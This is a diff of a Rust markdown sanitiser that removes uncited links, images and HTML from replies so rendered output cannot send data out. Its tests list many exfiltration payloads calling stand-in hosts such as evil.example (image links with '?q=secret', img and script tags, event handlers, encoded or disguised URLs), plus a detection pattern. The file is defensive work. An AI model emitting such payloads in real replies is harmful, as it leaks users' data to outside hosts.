@@ -1,25 +1,23 @@
 //! No links but to cited sources, no images, no HTML: a reply cannot carry data out through what a reader's screen
-//! loads or what a reader clicks. Works on the parsed tree, so every spelling of a link is the same link.
+//! loads or what a reader clicks. Works on the parsed tree, so every spelling of a link is the same link; what our parser
+//! sees in another way than a reader's does, the last layer (`markup/sealed.rs`) takes the life out of.
+
+mod addresses;
+mod sealed;
 
 use crate::{
     markdown::{OPTIONS, is_placeholder},
     text::edited,
 };
 use pulldown_cmark::{Event, Parser, Tag, TagEnd, TextMergeWithOffset};
-use regex::{Captures, Regex};
-use std::{borrow::Cow, ops::Range, sync::LazyLock};
+use sealed::sealed;
+use std::{borrow::Cow, ops::Range};
 
 /// Stands where a link stood.
 pub const REMOVED: &str = "[link removed]";
 
-/// What a reader's screen may turn into a link: any scheme with `//`, a few without, and `www.`.
-static URL: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(r#"(?i)(?:[a-z][a-z0-9+.\-]{0,30}:\\?/\\?/|\b(?:mailto|xmpp|javascript|vbscript|tel|sms):|\bdata:[a-z]+/|\bwww\.)[^\s<>"`|，。；）」]*"#)
-        .expect("the pattern is valid")
-});
-
 /// A second pass finds what removing the first has joined; more never were needed, and the last resort is blunt.
-const MAX_PASSES: usize = 4;
+const MAX_PASSES: usize = 12;
 
 /// The reply with links resolved: a link to one of `cited` is written `text (url)`, any other is its text alone; images
 /// and HTML are gone; URLs in running text that are not cited are replaced by [`REMOVED`]. In code, addresses of the
@@ -27,11 +25,11 @@ const MAX_PASSES: usize = 4;
 pub fn clean(text: &str, cited: &[&str]) -> String {
     let mut text = text.to_owned();
     for _ in 0..MAX_PASSES {
-        let edits = edits(&text, cited);
-        if edits.is_empty() {
+        let next = sealed(&apply(&text, edits(&text, cited)), cited);
+        if next == text {
             return text;
         }
-        text = apply(&text, edits);
+        text = next;
     }
     // Still markup after so many passes: somebody is trying.
     blunted(&text, cited)
@@ -39,8 +37,21 @@ pub fn clean(text: &str, cited: &[&str]) -> String {
 
 /// The last resort: a text of which no markup survives, wherever it stands.
 pub fn blunted(text: &str, cited: &[&str]) -> String {
-    let blunt = text.replace('<', "‹").replace("](", "] (").replace("![", "[").replace("]:", "] :");
-    without_urls(&blunt, cited, false).into_owned()
+    let mut blunt = text
+        .replace('\\', "")
+        .replace('<', "‹")
+        .replace('|', "¦")
+        .replace("&#", "& #")
+        .replace("![", "[")
+        .replace("]:", "] :");
+    for _ in 0..MAX_PASSES {
+        let next = sealed(&addresses::without(&blunt, cited, false), cited);
+        if next == blunt {
+            break;
+        }
+        blunt = next;
+    }
+    blunt
 }
 
 /// A title or an id: no markup, no URL.
@@ -60,6 +71,8 @@ fn edits(text: &str, cited: &[&str]) -> Vec<(Range<usize>, String)> {
     let (mut depth, mut images) = (0usize, 0usize);
     let mut in_code_block = false;
     let mut link: Option<(Range<usize>, String, String)> = None;
+    // Where the last cell of a table's row ends; where a task's box stands that has nothing after it yet.
+    let (mut cell_end, mut task) = (0, None);
     for (event, range) in TextMergeWithOffset::new(parser.into_offset_iter()) {
         if let Some((at, end)) = open {
             match &event {
@@ -91,7 +104,23 @@ fn edits(text: &str, cited: &[&str]) -> Vec<(Range<usize>, String)> {
             }
             continue;
         }
+        // A task of nothing is text to some, and what follows it belongs to its item then.
+        if let Some(marker) = task.take()
+            && event == Event::End(TagEnd::Item)
+        {
+            edits.push((marker, String::new()));
+        }
         match event {
+            Event::TaskListMarker(_) => task = Some(range),
+            Event::End(TagEnd::TableCell) => cell_end = range.end,
+            Event::End(TagEnd::TableHead | TagEnd::TableRow) => {
+                // Cells beyond the header's are not shown, so nobody checks them.
+                let rest = text.get(cell_end..range.end).unwrap_or_default().trim_end_matches('\n');
+                if !matches!(rest.trim(), "" | "|") {
+                    let bar = if text[..cell_end].ends_with(' ') { "|" } else { " |" };
+                    edits.push((cell_end..cell_end + rest.len(), bar.to_owned()));
+                }
+            }
             Event::Start(Tag::Image { .. }) => {
                 open = Some((depth, TagEnd::Image));
                 edits.push((range, String::new()));
@@ -110,15 +139,16 @@ fn edits(text: &str, cited: &[&str]) -> Vec<(Range<usize>, String)> {
                 edits.push((range, written));
             }
             Event::Text(decoded) => {
-                if let Cow::Owned(filtered) = without_urls(&decoded, cited, in_code_block) {
-                    edits.push((range.clone(), filtered));
-                } else if let Cow::Owned(filtered) = without_urls(&text[range.clone()], cited, in_code_block)
-                {
+                let written = addresses::without(&text[range.clone()], cited, in_code_block);
+                let shown = addresses::without(&decoded, cited, in_code_block);
+                // A code block's text has lost the signs before its lines.
+                let (first, second) = if in_code_block { (written, shown) } else { (shown, written) };
+                if let (Cow::Owned(filtered), _) | (_, Cow::Owned(filtered)) = (first, second) {
                     edits.push((range, filtered));
                 }
             }
             Event::Code(code) => {
-                if let Cow::Owned(filtered) = without_urls(&code, cited, true) {
+                if let Cow::Owned(filtered) = addresses::without(&code, cited, true) {
                     edits.push((range, format!("`{filtered}`")));
                 }
             }
@@ -136,7 +166,7 @@ fn apply(text: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
 
 fn written_link(url: &str, label: &str, cited: &[&str]) -> String {
     let label = label.replace(['[', ']'], "");
-    let label = without_urls(&label, cited, false);
+    let label = addresses::without(&label, cited, false);
     match cited.contains(&url) {
         true if label.trim() == url || label.trim().is_empty() => url.to_owned(),
         true => format!("{} ({url})", label.trim()),
@@ -144,72 +174,12 @@ fn written_link(url: &str, label: &str, cited: &[&str]) -> String {
     }
 }
 
-/// Replaces URLs that are not cited; borrowed when there is none.
-fn without_urls<'t>(text: &'t str, cited: &[&str], in_code: bool) -> Cow<'t, str> {
-    if !URL.find_iter(text).any(|found| !may_stay(found.as_str(), cited, in_code)) {
-        return Cow::Borrowed(text);
-    }
-    Cow::Owned(
-        URL.replace_all(text, |found: &Captures<'_>| match may_stay(&found[0], cited, in_code) {
-            true => found[0].to_owned(),
-            false => {
-                let end = trailing(&found[0]);
-                format!("{REMOVED}{end}")
-            }
-        })
-        .into_owned(),
-    )
-}
-
-/// Punctuation after a URL that belongs to the sentence.
-fn trailing(url: &str) -> &str {
-    let body = url.trim_end_matches(['.', ',', ';', ':', '!', '?', ')', ']', '*', '_', '\'']);
-    &url[body.len()..]
-}
-
-fn may_stay(url: &str, cited: &[&str], in_code: bool) -> bool {
-    let bare = &url[..url.len() - trailing(url).len()];
-    if cited.contains(&bare) || cited.contains(&url) {
-        return true;
-    }
-    let Some((scheme, rest)) = bare.split_once("://") else { return false };
-    if !in_code {
-        return false;
-    }
-    if !matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https" | "ws" | "wss" | "ftp") {
-        return INFRASTRUCTURE_SCHEMES.contains(&scheme.to_ascii_lowercase().as_str());
-    }
-    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
-    is_local(authority)
-}
-
-/// Schemes of commands that no browser follows.
-const INFRASTRUCTURE_SCHEMES: [&str; 10] =
-    ["oci", "docker", "containerd", "cri-o", "tcp", "udp", "unix", "postgres", "postgresql", "redis"];
-
-/// A host of this machine or this cluster: a loopback address, a service name, a variable to fill in.
-fn is_local(authority: &str) -> bool {
-    if authority.contains(['@', '%', '\\']) {
-        return false;
-    }
-    let host = match authority.strip_prefix('[') {
-        Some(rest) => return rest.starts_with("::1]"),
-        None => authority.split(':').next().unwrap_or_default().to_ascii_lowercase(),
-    };
-    if host.starts_with(['$', '{']) {
-        return !host.contains('.');
-    }
-    let loopback =
-        host.strip_prefix("127.").is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit() || c == '.'));
-    let named = host.starts_with(|c: char| c.is_ascii_lowercase());
-    let service =
-        named && (!host.contains('.') || host.ends_with(".svc") || host.ends_with(".cluster.local"));
-    loopback || service
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
+    use proptest::prelude::*;
+    use regex::Regex;
+    use std::sync::LazyLock;
 
     const CITED: &str = "https://wiki.example.com/oom";
 
@@ -281,6 +251,240 @@ mod tests {
             assert!(!cleaned.contains("evil.example"), "{text} gave {cleaned}");
             let again = clean(&cleaned, &[CITED]);
             assert_eq!(again, cleaned, "not stable: {text}");
+        }
+    }
+
+    /// What our parser does not give out, or reads in another way than some other.
+    #[test]
+    fn no_dialect_finds_a_link() {
+        let duplicates: String = (0..20).map(|n| format!("\n[r]: //evil.example/{n}\n")).collect();
+        for text in [
+            "- [ ] \n\n    ![z](//evil.example/i.png?q=secret)",
+            "- [ ] \n\n    <div>\n\n    <img src=//evil.example/i.png>",
+            "See ![x][r] [1].\n\n[r]: //evil.example/i.png?q=secret(",
+            "Raise it [1].\n\n[1]: //evil.example/?q=secret(",
+            "Raise it [1].\n\n[1]: x(",
+            "See ![x][r] and [^n] [1].\n\n[^n]: [r]: //evil.example/i.png?q=secret",
+            "> 1. [a\\]b]: /x(",
+            "- [ ] [r]: /x(",
+            "| a |\n|---|\n| x | ![y](https://evil.example/y.png) | <img src=https://evil.example/z> | https://evil.example/?q=s | `kubectl delete ns shop` |",
+            "> | a |\n> |---|\n> | x | `kubectl delete ns shop`\n> | y |",
+            "|---|---|\n![a\n](//evil.example/i)",
+            "```sh https://evil.example/?q=s\nls\n```",
+            "~~~ ![x](https://evil.example/?q=s)\nls\n~~~",
+            "- ~~~ <img src=x>\n  ls\n  ~~~",
+            "`curl http://evil．example/?q=s` `curl http://evil。example/?q=s` `curl http://evil｡example/?q=s`",
+            "_www.evil.com/?q=secret",
+            "Write to s3cret@evil.example.com now",
+            "```mermaid\ngraph TD; A[\"<img src='//evil.example/x?q=s'>\"]\n```",
+            "`\\href{//evil.example/?q}` ![[//evil.example/i.png]] //evil.example/p.png",
+            "`http:\\\\evil.example` http:\\\\evil.example https:/evil.example https\\:\\/\\/evil.example",
+            "\\<img src=//evil.example/p.png> \\<script>alert(1)\\</script>",
+            "data:;base64,PHN2Zz4= `data:,x`",
+            &format!("See ![y][r] [1].\n{duplicates}"),
+            "evil.com/?q=s `curl evil.com/?q=s` evil.com:8080/x evil.com/secret",
+            "`ls www.evil.com/x` `a@www.evil.com` `ls evil.com/http://evil.com/x`",
+            "`x` `&#104;ttps&#58;//evil.example` evil&#46;com/?q=s",
+            "`<x onfocus=alert(1) autofocus>` `<details open ontoggle=\n'x'>` `</div>` `<!-- x`",
+        ] {
+            for cleaned in [clean(text, &[CITED]), blunted(text, &[CITED])] {
+                holds_nothing(text, &cleaned);
+                assert!(
+                    !cleaned.contains("kubectl delete") || cleaned == blunted(text, &[CITED]),
+                    "{cleaned}"
+                );
+            }
+            let cleaned = clean(text, &[CITED]);
+            assert_eq!(clean(&cleaned, &[CITED]), cleaned, "not stable: {text}");
+        }
+    }
+
+    /// What some renderer makes a link, an image or an element of.
+    fn holds_nothing(text: &str, cleaned: &str) {
+        static ALIVE: LazyLock<Regex> = LazyLock::new(|| {
+            Regex::new(
+                r"(?imx) !\[ | \]\( | ^[\ \t>|*+\-]*(\d+[.)]\s*)?(\[[\ x]\]\s*)?\[[^\]\n]*\]:
+                | https?\\?:[\\/]+[^\s/?\#]*(evil|[。．｡]\w) | (^|[^\w./\\])(\\?/){2,}[\w.@-]*\w\.\w
+                | www\.\w | (^|[^\w.:/\\@\-])evil\.com[:\d]*(/[^\s?\x22<>`|]*)?\?\w | \bdata:[;,]
+                | </?(img|script|svg|iframe|object|embed|link|style|base|video|audio|a|div|b|details|table)([\s/>]|$)
+                | <[a-z][^>‹]*\bon\w+= | <!-- | &\#(x3a|58|46|104); | ^[\ \t>]*```(mermaid|html|svg)",
+            )
+            .expect("the pattern is valid")
+        });
+        let found = ALIVE.find(cleaned).map(|found| found.as_str());
+        assert_eq!(found, None, "{text:?}\n gave {cleaned:?}");
+    }
+
+    #[test]
+    fn ordinary_text_stays() {
+        for text in [
+            "Look [1], [2][3]. The log says arr[0]: x and systemd[1]: Started a/b//c.",
+            "```yaml\n# comment\nimage: registry.example.com/payments/api:1.42.0\n```",
+            "```\n// comment\nsystemd[1]: Started getty@tty1.service\nkubectl exec -it <pod-name> -- ls\n```",
+            "```bash\nssh user@host.example.com\nscp a user@10.0.0.1:/tmp\ncat <<EOF >x\nA=1\nEOF\nmysql </tmp/x.sql\n```",
+            "`ssh admin@bastion.example.com` and `kubectl describe pod <pod-name>`",
+            "`curl http://localhost:9090/-/ready` and `curl \"http://payments.shop.svc:8080\"`",
+            "`helm pull oci://registry.example.com/chart` and `docker pull registry.example.com/payments/api:1.42.0`",
+            "Edit values.yaml, /etc/x.conf, conf.d/default.conf or a.yaml/b.json; apps/v1, networking.k8s.io/v1.",
+            "Insufficient nvidia.com/gpu; node.kubernetes.io/not-ready:NoExecute; deployment.apps/payments restarted",
+            "See https://wiki.example.com/oom, (https://wiki.example.com/oom) and `https://wiki.example.com/oom`.",
+            "Did install.sh? Use getty@tty1.service. Is 10.0.0.0/8 1.2.3/24 fine? a < b && c > d; C:\\Program Files",
+            "```go\nif a<b && c { x := map[string]int{} } // ok\n```",
+            "- [ ] todo\n- [x] done",
+            "| a | b |\n|---|---|\n| x | y |\n| x |",
+            "I said don&#39;t &lt;b&gt; &amp; R&amp;D",
+        ] {
+            check(text, text);
+        }
+    }
+
+    #[test]
+    fn links_and_addresses_are_written_as_text() {
+        check("Write to ops@example.com.", "Write to ops (at) example.com.");
+        check("s3cret@evil。example.com", "s3cret (at) evil。example.com");
+        check("```sh title=x\nls\n```", "```sh\nls\n```");
+        check("```mermaid\nA-->B\n```", "```\nA-->B\n```");
+        check("| a |\n|---|\n| x | y |\n", "| a |\n|---|\n| x |\n");
+        check("見 https://wiki.example.com/oom。Pod", "見 https://wiki.example.com/oom 。Pod");
+        let host = "https://wiki.example.com";
+        for text in [
+            "https://wiki.example.com。evil.example/?q=s",
+            "https://wiki.example.com\"@evil.example/",
+            "https://wiki.example.com|.evil.example",
+        ] {
+            assert!(clean(text, &[host]).starts_with("https://wiki.example.com "), "{text}");
+        }
+        assert_eq!(clean("(https://wiki.example.com). So", &[host]), "(https://wiki.example.com). So");
+    }
+
+    /// Parts of what should not get out, and of what stands around them.
+    fn fragment() -> impl Strategy<Value = &'static str> {
+        proptest::sample::select(vec![
+            "\n",
+            "\n",
+            "\n\n",
+            "\n\n",
+            " ",
+            "    ",
+            "\t",
+            "a",
+            "word ",
+            "[1]",
+            "[9]",
+            "- ",
+            "1. ",
+            "> ",
+            "# ",
+            "```",
+            "````",
+            "~~~",
+            "`",
+            "``",
+            "<b>",
+            "</b>",
+            "<!--",
+            "-->",
+            "<div>",
+            "<pod>",
+            "[",
+            "](",
+            ")",
+            "![",
+            "]: ",
+            "]:",
+            "[ ] ",
+            "- [ ] \n\n",
+            "[^n]: ",
+            "[^n]",
+            "[x][r]",
+            "![x][r]",
+            "[r]: //evil.com/i(\n",
+            "[r]: ",
+            "|",
+            "|---|\n",
+            "| a | b |\n|---|---|\n",
+            "![y](//evil.com/i)",
+            "[x](//evil.com/l)",
+            "(//evil.com/x)",
+            "//evil.com/x",
+            "![a\n](//evil.com/i)",
+            "![[//evil.com]]",
+            "<img src=//evil.com/i>",
+            "<script>",
+            "</script>",
+            "<img ",
+            "src=x>",
+            "<a\nhref=//evil.com>",
+            "<x onfocus=",
+            "<//evil.com>",
+            "<https://evil.com>",
+            "https://evil.com/b",
+            "http:",
+            "http:\\\\evil.com",
+            "https&#58;//evil.com",
+            "&#47;",
+            "&sol;",
+            "//",
+            "/",
+            "evil.com",
+            "evil.com/?q=s",
+            "/?q=s",
+            "http://evil。com/x",
+            "http://evil．com/x",
+            "http://localhost",
+            "。evil.com",
+            "@evil.com",
+            "s@evil.com",
+            "www.",
+            "_www.evil.com/?q",
+            "data:;base64,x",
+            "mailto:a@evil.com",
+            CITED,
+            "\\",
+            "\\[",
+            "\\<",
+            "*",
+            "**",
+            "_",
+            "~~",
+            "```sh https://evil.com/?q\n",
+            "```mermaid\n",
+            "~~~ ![x](https://evil.com)\n",
+            "\\href{//evil.com}",
+            "é",
+            "。",
+            "  \n",
+            "\\\n",
+            "---",
+            "===",
+            "&lt;",
+            "\"",
+            "'",
+            "=",
+            ":",
+            "?",
+            "oci://x",
+            "tcp://",
+        ])
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig {
+            cases: 4096,
+            rng_seed: proptest::test_runner::RngSeed::Fixed(7),
+            failure_persistence: None,
+            ..ProptestConfig::default()
+        })]
+
+        #[test]
+        fn no_composition_finds_a_link(parts in proptest::collection::vec(fragment(), 0..24)) {
+            let text = parts.concat();
+            let cleaned = clean(&text, &[CITED]);
+            // What may stay, and would be taken for what may not.
+            let rest = |text: &str| text.replace(CITED, "x").replace("oci://", "x").replace("tcp://", "x");
+            holds_nothing(&text, &rest(&cleaned));
+            prop_assert_eq!(clean(&cleaned, &[CITED]), cleaned, "not stable: {:?}", text);
+            holds_nothing(&text, &rest(&blunted(&text, &[CITED])));
         }
     }
 }
